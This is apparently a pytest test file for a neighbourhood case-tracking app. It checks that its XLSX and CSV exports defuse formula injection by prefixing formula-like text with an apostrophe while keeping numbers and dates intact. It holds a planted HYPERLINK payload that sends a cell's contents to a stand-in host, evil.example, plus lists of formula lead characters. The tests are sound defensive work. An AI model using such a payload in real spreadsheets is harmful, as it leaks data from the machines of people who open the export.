"""No export carries a live formula: text typed by residents, party members, hotline staff or an
administrator is shown by Excel, WPS or LibreOffice, never run on the official's PC that opens it.

Every text field a person fills in that reaches an export (case titles, place names, people's
names, a meeting's subject and place, a vote's typed explanation) is planted with text that
starts like a formula, and every export (the case list with its filters, the dashboard's table,
the minutes register) is read back in XLSX and CSV: no formula cell, no cell that starts like a
formula, the text still there behind an apostrophe, numbers and dates still numbers and dates.
And a CSV names its charset once.
"""
import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.conftest import shown
from tests.factories import make_case
from tests.printing_factories import meeting_in
from tests.vote_factories import committee_vote
from tracker.core import spreadsheets
from tracker.extensions import db
from tracker.voting import operations as voting

LEADS = ["=", "+", "-", "@", "\t", "\r"]


def planted(lead: str, what: str) -> str:
    """Text that a spreadsheet would run, sending the sheet's cells to another server."""
    return f'{lead}HYPERLINK("http://evil.example/?"&A2,"{what}")'


def sheet_of(response):
    assert response.status_code == 200
    assert response.mimetype == spreadsheets.XLSX_MIMETYPE
    return load_workbook(io.BytesIO(response.get_data())).active


def formula_cells(sheet) -> list[str]:
    return [cell.coordinate for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def columns(sheet) -> dict[str, list]:
    """Header → the column's values below it."""
    header, *rows = list(sheet.iter_rows(values_only=True))
    return {name: [row[i] for row in rows] for i, name in enumerate(header)}


def csv_columns(response) -> dict[str, list[str]]:
    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    return {name: [row[i] for row in rows] for i, name in enumerate(header)}


@pytest.fixture(params=LEADS, ids=repr)
def hostile(request, world):
    """Every field a person types that an export shows, starting with one formula lead.

    A passed vote on a case, a case of its own, and signed minutes of a meeting on a third, all
    in 德富花园, whose places and people carry the planted text too.
    """
    lead = request.param
    text = {what: planted(lead, what) for what in (
        "街道", "社区", "小区", "议题", "表决议题", "议程议题", "依据", "说明", "会议", "地点",
        "王丽", "陈国强", "吕娟")}
    world.street.name, world.community.name, world.compound.name = (
        text["街道"], text["社区"], text["小区"])
    for user, name in ((world.residents_member, "王丽"), (world.owners_member, "陈国强"),
                       (world.property_rep, "吕娟")):
        user.name = text[name]
    db.session.commit()

    vote = committee_vote(world, extra_members=0)
    voting.cast_ballot(vote, world.owners_member, "for")
    voting.close_vote(vote, world.liaison)
    vote.resolution.case.title = text["表决议题"]
    # What a vote's record says is partly typed (a reason given when it closed).
    vote.result = {**vote.result, "rule_zh": text["依据"], "explanation_zh": text["说明"]}
    db.session.commit()
    make_case(world.compound, world.liaison, title=text["议题"])

    meeting = meeting_in(world, title=text["会议"])
    meeting.place = text["地点"]
    meeting.agenda[0].case.title = text["议程议题"]
    db.session.commit()
    return text


def defused(text: str) -> str:
    return "'" + text


@pytest.mark.parametrize("query", ["", "?state=raised", "?state=follow_up", "?q=HYPERLINK"])
def test_the_case_list_xlsx_has_no_formula_and_keeps_the_text(client, login_as, world, hostile,
                                                               query):
    login_as(world.official)
    sheet = sheet_of(client.get(f"/oversight/cases.xlsx{query}"))
    assert formula_cells(sheet) == []
    table = columns(sheet)
    assert table[shown("Title")]  # the filter found the planted cases
    assert set(table[shown("Title")]) <= {defused(hostile[what])
                                          for what in ("议题", "表决议题", "议程议题")}
    assert set(table[shown("Street")]) == {defused(hostile["街道"])}
    assert set(table[shown("Community")]) == {defused(hostile["社区"])}
    assert set(table[shown("Compound")]) == {defused(hostile["小区"])}
    assert all(isinstance(value, datetime) for value in table[shown("Raised at")])


def test_the_voted_case_keeps_its_figures_and_its_typed_words(client, login_as, world, hostile):
    login_as(world.official)
    table = columns(sheet_of(client.get("/oversight/cases.xlsx?state=follow_up")))
    assert table[shown("Title")] == [defused(hostile["表决议题"])]
    assert table[shown("Rule applied")] == [defused(hostile["依据"])]
    assert table[shown("Vote explanation")] == [defused(hostile["说明"])]
    assert table[shown("For")] == [1] and table[shown("Against")] == [0]  # numbers stay numbers
    assert isinstance(table[shown("Put to the vote at")][0], datetime)


def test_the_dashboard_table_xlsx_has_no_formula(client, login_as, world, hostile):
    login_as(world.official)
    by_community = sheet_of(client.get("/oversight/table.xlsx"))
    by_compound = sheet_of(client.get(f"/oversight/table.xlsx?community={world.community.id}"))
    assert formula_cells(by_community) == formula_cells(by_compound) == []
    assert defused(hostile["社区"]) in columns(by_community)[shown("Name")]
    names = columns(by_compound)[shown("Name")]
    assert defused(hostile["小区"]) in names
    figures = columns(by_compound)[shown("Open cases")]
    assert figures[names.index(defused(hostile["小区"]))] == 3  # a number, not text


def test_the_minutes_register_xlsx_has_no_formula(client, login_as, world, hostile):
    login_as(world.official)
    sheet = sheet_of(client.get("/minutes-register/export.xlsx"))
    assert formula_cells(sheet) == []
    table = columns(sheet)
    assert defused(hostile["会议"]) in table[shown("Subject")]
    row = table[shown("Subject")].index(defused(hostile["会议"]))
    assert table[shown("Place")][row] == defused(hostile["地点"])
    assert table[shown("Community")][row] == defused(hostile["社区"])
    assert table[shown("Street")][row] == defused(hostile["街道"])
    assert table[shown("Compounds")][row] == defused(hostile["小区"])
    # Names joined into one cell start with the first signer's: that cell is text too.
    assert table[shown("Signers")][row] == defused("、".join(
        hostile[name] for name in ("王丽", "陈国强", "吕娟")))
    assert isinstance(table[shown("Date and time")][row], datetime)


@pytest.mark.parametrize("url", ["/oversight/cases.csv", "/oversight/table.csv",
                                 "/minutes-register/export.csv"])
def test_no_csv_cell_starts_like_a_formula(client, login_as, world, hostile, url):
    login_as(world.official)
    response = client.get(url)
    table = csv_columns(response)
    cells = [value for column in table.values() for value in column]
    assert cells and not [value for value in cells if value.startswith(tuple(LEADS))]
    assert defused(hostile["社区"]) in cells


def test_a_formula_raised_through_the_api_is_text_in_the_xlsx(client, world, bearer, login_as):
    title = '=HYPERLINK("http://evil.example/?"&A2,"点我")'
    response = client.post("/api/v1/cases", headers=bearer(world.liaison), json={
        "compound_id": world.compound.id, "title": title, "category": "water_supply",
        "source": "hotline_12345", "description": "=1+1", "resident_name": "@刘小华",
        "resident_phone": "13800001111"})
    assert response.status_code == 201, response.get_json()
    login_as(world.official)
    sheet = sheet_of(client.get("/oversight/cases.xlsx"))
    assert formula_cells(sheet) == []
    assert columns(sheet)[shown("Title")] == [defused(title)]


@pytest.mark.parametrize("url", ["/oversight/cases.csv", "/oversight/table.csv",
                                 "/minutes-register/export.csv"])
def test_a_csv_says_its_charset_once(client, login_as, world, url):
    login_as(world.official)
    response = client.get(url)
    assert response.status_code == 200
    assert response.headers.getlist("Content-Type") == ["text/csv; charset=utf-8"]


# --- the one rule, on the writer itself ---------------------------------------------------------

ROW = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "1-2", "", None, -3,
       Decimal("-1.5"), 2.5, date(2026, 11, 20), datetime(2026, 11, 20, 19, 30)]


def test_xlsx_text_is_text_numbers_and_dates_stay_what_they_are():
    sheet = load_workbook(io.BytesIO(spreadsheets.to_xlsx(
        "表", [f"c{i}" for i in range(len(ROW))], [ROW]))).active
    assert formula_cells(sheet) == []
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [cell.value for cell in cells[:9]] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "#N/A", "1-2", None]
    assert cells[6].data_type == "s"  # text, not Excel's error value
    assert [cell.value for cell in cells[10:13]] == [-3, Decimal("-1.5"), 2.5]
    assert all(cell.data_type == "n" for cell in cells[10:13])
    assert cells[13].value == datetime(2026, 11, 20)  # openpyxl reads every date as a datetime
    assert cells[13].is_date and cells[14].is_date


def test_csv_and_xlsx_share_the_rule():
    rows = list(csv.reader(io.StringIO(spreadsheets.to_csv(
        [f"c{i}" for i in range(len(ROW))], [ROW]).decode("utf-8-sig"))))
    assert rows[1] == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "#N/A", "1-2", "",
                       "", "-3", "-1.5", "2.5", "2026-11-20", "2026-11-20 19:30"]
    assert [spreadsheets.defused(v) for v in ROW[:8]] == rows[1][:8]


def test_a_control_character_in_a_title_does_not_break_the_xlsx(client, world, bearer, login_as):
    # XML, and so XLSX, cannot hold most control characters; the API takes any but NUL.
    response = client.post("/api/v1/cases", headers=bearer(world.liaison), json={
        "compound_id": world.compound.id, "title": "3栋\x01停水\x1b", "category": "water_supply",
        "source": "hotline_12345", "description": "停水", "resident_name": "刘小华",
        "resident_phone": "13800001111"})
    assert response.status_code == 201, response.get_json()
    login_as(world.official)
    sheet = sheet_of(client.get("/oversight/cases.xlsx"))
    assert columns(sheet)[shown("Title")] == ["3栋\ufffd停水\ufffd"]
    csv_titles = csv_columns(client.get("/oversight/cases.csv"))[shown("Title")]
    assert csv_titles == ["3栋\x01停水\x1b"]  # CSV carries them as they are
